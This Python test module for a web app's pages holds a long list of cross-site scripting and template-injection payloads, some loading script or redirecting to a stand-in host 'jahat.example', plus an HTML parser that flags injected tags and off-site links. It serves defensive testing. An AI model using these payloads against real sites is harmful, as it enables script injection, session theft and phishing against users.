"""What somebody might write so that an officer's browser does their will, and how that would show in a page."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

BAD = "window.jahat=1,alert(1)"
PAYLOADS = (
    f"<script>{BAD}</script>",
    f"<ScRiPt >{BAD}</ScRiPt >",
    f"</p></article><script>{BAD}</script>",
    f"</title><script>{BAD}</script>",
    f"</textarea><script>{BAD}</script>",
    f"</option></select><script>{BAD}</script>",
    f"--><script>{BAD}</script>",
    f"<!--<script>{BAD}//--></script>",
    f"<scr<script>ipt>{BAD}</scr</script>ipt>",
    f"<script\x0d\x0a>{BAD}</script>",
    f"<script/x>{BAD}</script>",
    "<script src=//jahat.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    f"<img src=x onerror={BAD}>",
    f"<img src=x onerror='{BAD}'",
    f'"><img src=x onerror="{BAD}">',
    f"'><img src=x onerror={BAD}>",
    f"`><img src=x onerror={BAD}>",
    f'" autofocus onfocus="{BAD}" x="',
    f"' autofocus onfocus='{BAD}' x='",
    f" autofocus onfocus={BAD} ",
    f'" onmouseover="{BAD}',
    f"<svg onload={BAD}>",
    f"<svg/onload={BAD}//",
    f"<svg><script>{BAD}</script></svg>",
    f"<svg><animate onbegin={BAD} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={BAD}>",
    f"<body onload={BAD}>",
    f"<details open ontoggle={BAD}>",
    f"<video><source onerror={BAD}></video>",
    f"<audio src=x onerror={BAD}>",
    f"<iframe srcdoc='<script>parent.{BAD}</script>'></iframe>",
    f"<iframe src=javascript:{BAD}></iframe>",
    "<object data=//jahat.example/x></object>",
    "<embed src=//jahat.example/x>",
    f"<a href=javascript:{BAD}>klik</a>",
    f"<a href=' &#106;avascript:{BAD}'>klik</a>",
    f"javascript:{BAD}",
    f"data:text/html,<script>{BAD}</script>",
    "<base href=//jahat.example/>",
    "<meta http-equiv=refresh content=0;url=//jahat.example>",
    "<link rel=stylesheet href=//jahat.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//jahat.example><button>Masuk",
    "<p style=background:url(//jahat.example)>",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %n {0} {name.__class__}",
    f"&lt;script&gt;{BAD}&lt;/script&gt;",
    f"\\u003cscript\\u003e{BAD}",
    f"+ADw-script+AD4-{BAD}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{BAD}\uff1c/script\uff1e",
    f"<script>\u2028{BAD}</script>",
    "\u202e>tpircs<\u202d\u200b\ufeff\x1b[31m\x07",
    f"<noscript><p title='</noscript><img src=x onerror={BAD}>'>",
    f"<template><script>{BAD}</script></template>",
    f"<x-jahat tabindex=1 onfocus={BAD} id=x>",
)
_NEVER = {"iframe", "object", "embed", "svg", "math", "style", "base", "template", "noscript", "video", "audio"}
_NEVER |= {"source", "animate", "x-jahat", "mglyph", "mtext"}
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster")
_HERE = ("/", "?", "#", "https://www.openstreetmap.org/", "http://localhost/media/")


class Faults(HTMLParser):
    """What stands in a page that none of our templates wrote."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        foreign = tag == "script" and not given.get("src", "").startswith(("/static/", "/desk/static/"))
        if tag in _NEVER or foreign or any(name.startswith("on") or name in ("style", "srcdoc") for name in given):
            self.found.append(self.get_starttag_text() or tag)
        self.found += [f"{tag} {name}={value}" for name, value in self._led_away(given)]

    def _led_away(self, given: dict[str, str]) -> Iterator[tuple[str, str]]:
        for name, value in given.items():
            elsewhere = not value.startswith(_HERE) or value.startswith(("//", "/\\"))
            if name == "http-equiv" or (name in _ADDRESSES and elsewhere):
                yield name, value
